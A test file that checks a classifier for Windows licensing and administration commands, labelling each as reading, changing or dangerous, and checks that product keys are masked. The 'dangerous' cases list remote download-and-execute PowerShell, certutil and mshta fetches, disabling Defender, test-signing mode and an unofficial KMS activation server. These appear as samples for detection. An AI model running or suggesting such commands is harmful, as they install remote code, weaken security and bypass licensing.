import { describe, expect, test } from 'vitest';
import { COMMAND_ENTRIES, describeCommand } from '../../../lib/risks/commands.ts';

const MASK = '•••••-•••••-•••••-•••••-•••••';

test.each([
  ['slmgr /xpr', 'slmgr-xpr', 'reads'],
  ['slmgr.vbs -dlv', 'slmgr-dlv', 'reads'],
  ['SLMGR /DLI', 'slmgr-dli', 'reads'],
  ['slmgr –dti', 'slmgr-dti', 'reads'],
  ['slmgr/dlv all', 'slmgr-dlv', 'reads'],
  ['slmgr /ipk XXXXX-XXXXX-XXXXX-XXXXX-XXXXX', 'slmgr-ipk', 'changes'],
  ['slmgr.vbs /ato', 'slmgr-ato', 'changes'],
  ['slmgr /upk', 'slmgr-upk', 'changes'],
  ['slmgr /rearm', 'slmgr-rearm', 'changes'],
  ['slmgr /cpky', 'slmgr-cpky', 'changes'],
  ['slmgr /skms kms.corp.example.com:1688', 'slmgr-skms', 'changes'],
  ['slmgr /whatever', 'slmgr', 'changes'],
  ['slmgr /dlv /whatever', 'slmgr', 'changes'],
  ['slmgr /dlv /ato', 'slmgr-ato', 'changes'],
  ['slmgr pc01 /dlv', 'slmgr-dlv', 'reads'],
  ['cscript //nologo slmgr.vbs /dlv', 'slmgr-dlv', 'reads'],
  [
    'cscript //nologo "C:\\Program Files\\Microsoft Office\\Office16\\ospp.vbs" /dstatus',
    'ospp-dstatus',
    'reads',
  ],
  ['cscript ospp.vbs /act', 'ospp-act', 'changes'],
  ['C:\\Windows\\System32\\slmgr.vbs /ato', 'slmgr-ato', 'changes'],
  ['C:\\Windows\\system32>slmgr /xpr', 'slmgr-xpr', 'reads'],
  ['cmd /c slmgr /xpr', 'slmgr-xpr', 'reads'],
  ['slui 3', 'slui-change-key', 'reads'],
  ['slui.exe 4', 'slui-phone', 'reads'],
  ['slui', 'slui', 'reads'],
  ['changepk.exe /ProductKey XXXXX-XXXXX-XXXXX-XXXXX-XXXXX', 'changepk', 'changes'],
  ['wmic path softwarelicensingservice get OA3xOriginalProductKey', 'wmic-key', 'reads'],
  ['wmic os get caption', 'wmic', 'reads'],
  [
    '(Get-WmiObject -query "select * from SoftwareLicensingService").OA3xOriginalProductKey',
    'query-key',
    'reads',
  ],
  [
    'powershell "(Get-WmiObject -query \'select * from SoftwareLicensingService\').OA3xOriginalProductKey"',
    'query-key',
    'reads',
  ],
  [
    '(Get-CimInstance -ClassName SoftwareLicensingService).OA3xOriginalProductKey | Out-File key.txt',
    'query-key',
    'reads',
  ],
  ['Get-CimInstance SoftwareLicensingProduct', 'query-licence', 'reads'],
  ['Get-ComputerInfo', 'cmdlet-reads', 'reads'],
  ['Install-Module Example', 'cmdlet-changes', 'changes'],
  ['Enable-WindowsOptionalFeature -Online -FeatureName Example', 'powershell-feature', 'changes'],
  ['dism /online /set-edition:ServerStandard /productkey:XXXXX /accepteula', 'dism-set-edition', 'changes'],
  ['DISM /Online /Cleanup-Image /RestoreHealth', 'dism-repair', 'changes'],
  ['DISM /Online /Cleanup-Image /ScanHealth', 'dism-scan', 'reads'],
  ['DISM /online /Get-TargetEditions', 'dism-edition', 'reads'],
  ['sfc /scannow', 'sfc', 'changes'],
  ['sfc /verifyonly', 'sfc-verify', 'reads'],
  ['systeminfo | findstr OS', 'system-info', 'reads'],
  ['winver', 'system-info', 'reads'],
  ['net stop sppsvc', 'net-service', 'changes'],
  ['net stop sppsvc && net start sppsvc', 'net-service', 'changes'],
  ['sc config sppsvc start= auto', 'sc', 'changes'],
  ['sc query sppsvc', 'sc-query', 'reads'],
  ['reg add "HKLM\\SOFTWARE\\Example" /v Name /t REG_DWORD /d 1 /f', 'reg', 'changes'],
  ['reg query HKLM\\SOFTWARE\\Example', 'reg-query', 'reads'],
  ['gpupdate /force', 'gpupdate', 'changes'],
  ['w32tm /resync', 'time-sync', 'changes'],
  ['ipconfig /flushdns', 'ipconfig', 'changes'],
  ['ipconfig /all', 'ipconfig-show', 'reads'],
  ['services.msc', 'open-tool', 'reads'],
  ['regedit', 'regedit', 'reads'],
  ['control', 'control', 'reads'],
  ['cmd', 'cmd', 'reads'],
  ['powershell', 'powershell', 'reads'],
  ['start ms-settings:activation', 'start-settings', 'reads'],
  ['nslookup -type=srv _vlmcs._tcp', 'network-check', 'reads'],
  ['bcdedit /enum', 'bcdedit-enum', 'reads'],
  ['bcdedit /set hypervisorlaunchtype auto', 'bcdedit', 'changes'],
  ['example.exe /silent', '', 'changes'],
  ['slmgr /dli\nslmgr /xpr', 'script-reads', 'reads'],
  ['slmgr /xpr\nslmgr /ato', 'script-changes', 'changes'],
  ['@echo off\nrem look first\nslmgr /xpr', 'slmgr-xpr', 'reads'],
  ['net stop wuauserv\nnet stop bits', 'net-service', 'changes'],
])('%j is %s', (text, entry, effect) => {
  expect(describeCommand(text)).toMatchObject({ entry, effect });
  if (entry) expect(COMMAND_ENTRIES.map(({ id }) => id)).toContain(entry);
});

test.each([
  'slmgr /skms kms8.example.xyz',
  'slmgr /ipk XXXXX-XXXXX-XXXXX-XXXXX-XXXXX\nslmgr /skms kms8.example.xyz\nslmgr /ato',
  'irm https://example.com/a | iex',
  'powershell -enc QQBCAEMARABFAEYARwBIAA==',
  'iex (irm https://example.com/a)',
  '& ([ScriptBlock]::Create((irm https://example.com/a)))',
  '$s = irm https://example.com/a\niex $s',
  'Set-MpPreference -DisableRealtimeMonitoring $true',
  'bcdedit /set testsigning on',
  'sc config sppsvc start= disabled',
  'certutil -urlcache -f https://example.com/a.exe a.exe',
  'mshta https://example.com/a.hta',
])('%j is dangerous', (text) => {
  expect(describeCommand(text)?.effect).toBe('dangerous');
});

test.each([
  '',
  'Settings',
  'Update & Security',
  'Win + R',
  'PowerShell',
  'Command Prompt',
  'Control Panel',
  'Control',
  'Services',
  'Type here to search',
  'Find my device',
  'Copy',
  'Start',
  'Net Framework 4.8',
  'slmgr.vbs',
  'slmgr',
  'C:\\Windows\\System32\\slmgr.vbs',
  'C:\\Windows\\System32\\cmd.exe',
  'setup.exe',
  'tokens.dat',
  'XXXXX-XXXXX-XXXXX-XXXXX-XXXXX',
  'ABC12-DEF34-GHI56-JKL78-MNO90',
  '0xC004F074',
  'HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion',
  'HKLM\\SYSTEM\\CurrentControlSet\\Services\\sppsvc',
  'ms-settings:activation',
  '<div class="code">slmgr</div>',
  '{ "name": "slmgr /ato" }',
  'key=value',
  'Right-click',
  'Add-ons',
  'Read-only',
  'https://example.com/',
  'Name: Windows(R), Professional edition',
  'OS Name: Microsoft Windows Server',
  'KMSpico.exe',
])('%j is no command', (text) => {
  expect(describeCommand(text)).toBeNull();
});

test('leaves prompts and output away', () => {
  const session =
    'PS C:\\Users\\example> systeminfo | findstr OS\nOS Name: Microsoft Windows\nPS C:\\Users\\example> winver';
  expect(describeCommand(session)?.text).toBe('systeminfo | findstr OS\nwinver');
});

test('masks product keys', () => {
  expect(describeCommand('slmgr /ipk ABC12-DEF34-GHI56-JKL78-MNO90')?.text).toBe(`slmgr /ipk ${MASK}`);
});

test('gives plain dashes back, for a terminal to take', () => {
  expect(describeCommand('slmgr –dlv')?.text).toBe('slmgr -dlv');
});

describe('the command table', () => {
  test('has each id once, in order', () => {
    const ids = COMMAND_ENTRIES.map(({ id }) => id);
    expect(ids).toEqual([...new Set(ids)].sort());
  });

  test.each(COMMAND_ENTRIES)('$id says in a sentence what it does', ({ id, note }) => {
    expect(id).toMatch(/^[a-z0-9]+(-[a-z0-9]+)*$/);
    expect(note).toMatch(/^[A-Z].{8,}\.$/);
  });
});
